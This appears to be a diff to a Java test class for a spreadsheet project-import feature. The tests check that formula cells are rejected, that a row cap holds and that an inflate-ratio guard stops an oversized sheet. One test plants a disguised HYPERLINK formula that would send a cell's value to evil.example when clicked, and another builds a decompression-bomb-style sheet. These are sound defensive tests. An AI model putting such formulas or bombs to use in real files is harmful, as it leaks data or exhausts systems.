@@ -92,6 +92,35 @@ class ProjectExcelTests {
         .containsEntry("description", "@x");
   }
 
+  @Test
+  void aFormulaCellIsRefusedNamingItsCellWhateverResultItCaches() throws Exception {
+    byte[] file;
+    try (XSSFWorkbook book =
+            new XSSFWorkbook(
+                new ByteArrayInputStream(
+                    ProjectExcel.write(List.of(project("南昌储能", "业主", "简介")))));
+        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      Row row = book.getSheetAt(0).getRow(1);
+      // shows "南昌储能" in Excel, links the row's code out when clicked
+      row.getCell(1).setCellFormula("HYPERLINK(\"http://evil.example/?\"&A2,\"南昌储能\")");
+      row.getCell(1).setCellValue("南昌储能");
+      row.getCell(7).setCellFormula("1000*10");
+      book.write(out);
+      file = out.toByteArray();
+    }
+    List<FieldProblem> problems = new ArrayList<>();
+    ProjectExcel.read(new ByteArrayInputStream(file), 10, problems);
+
+    assertThat(problems)
+        .extracting(FieldProblem::field, FieldProblem::message)
+        .containsExactlyInAnyOrder(
+            org.assertj.core.groups.Tuple.tuple(
+                "row 2: name", "column B (项目名称) is a formula; enter its value instead"),
+            org.assertj.core.groups.Tuple.tuple(
+                "row 2: totalInvestment",
+                "column H (总投资（万元）) is a formula; enter its value instead"));
+  }
+
   /** A real workbook whose first sheet's XML is replaced. */
   static byte[] withSheetXml(byte[] sheetXml) throws Exception {
     ByteArrayOutputStream plain = new ByteArrayOutputStream();
@@ -114,10 +143,12 @@ class ProjectExcelTests {
 
   /** Refused as a whole, before any header or row is looked at. */
   static List<FieldProblem> problemsReading(byte[] file) {
+    return problemsReading(file, 10);
+  }
+
+  static List<FieldProblem> problemsReading(byte[] file, int maxRows) {
     List<FieldProblem> problems = new ArrayList<>();
-    List<ExcelSheets.SheetRow> rows =
-        ProjectExcel.read(new ByteArrayInputStream(file), 10, problems);
-    assertThat(rows).isEmpty();
+    ProjectExcel.read(new ByteArrayInputStream(file), maxRows, problems);
     assertThat(problems)
         .extracting(FieldProblem::field, FieldProblem::message)
         .containsExactly(
@@ -150,6 +181,12 @@ class ProjectExcelTests {
     xml.writeBytes(
         "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
             .getBytes(StandardCharsets.US_ASCII));
+    // a proper header first: the rows are streamed, so only the inflate-ratio guard stops it
+    StringBuilder header = new StringBuilder("<row>");
+    for (String[] column : ProjectExcel.COLUMNS) {
+      header.append("<c t=\"inlineStr\"><is><t>").append(column[0]).append("</t></is></c>");
+    }
+    xml.writeBytes(header.append("</row>").toString().getBytes(StandardCharsets.UTF_8));
     byte[] row =
         "<row><c t=\"inlineStr\"><is><t>boom</t></is></c></row>"
             .getBytes(StandardCharsets.US_ASCII);
@@ -160,7 +197,7 @@ class ProjectExcelTests {
     byte[] file = withSheetXml(xml.toByteArray());
     assertThat(file.length).isLessThan(1_000_000);
 
-    problemsReading(file);
+    problemsReading(file, ProjectImport.MAX_ROWS);
   }
 
   @Test
@@ -192,6 +229,27 @@ class ProjectExcelTests {
             ProjectImport.MAX_ROWS,
             problems);
     assertThat(problems).isEmpty();
+    assertThat(rows).hasSize(ProjectImport.MAX_ROWS);
+  }
+
+  @Test
+  void oneRowOverTheLimitIsAProblemOfTheFileAndTheReadingStopsThere() {
+    List<Project> projects = new ArrayList<>();
+    for (int i = 0; i <= ProjectImport.MAX_ROWS; i++) {
+      projects.add(project("赣江新区光伏电站" + i, "南昌轨道交通集团", "简介"));
+    }
+    List<FieldProblem> problems = new ArrayList<>();
+    List<ExcelSheets.SheetRow> rows =
+        ProjectExcel.read(
+            new ByteArrayInputStream(ProjectExcel.write(projects)),
+            ProjectImport.MAX_ROWS,
+            problems);
+
+    assertThat(problems)
+        .extracting(FieldProblem::field, FieldProblem::message)
+        .containsExactly(
+            org.assertj.core.groups.Tuple.tuple(
+                "file", "at most " + ProjectImport.MAX_ROWS + " rows per import"));
     assertThat(rows).hasSize(ProjectImport.MAX_ROWS);
   }
 }
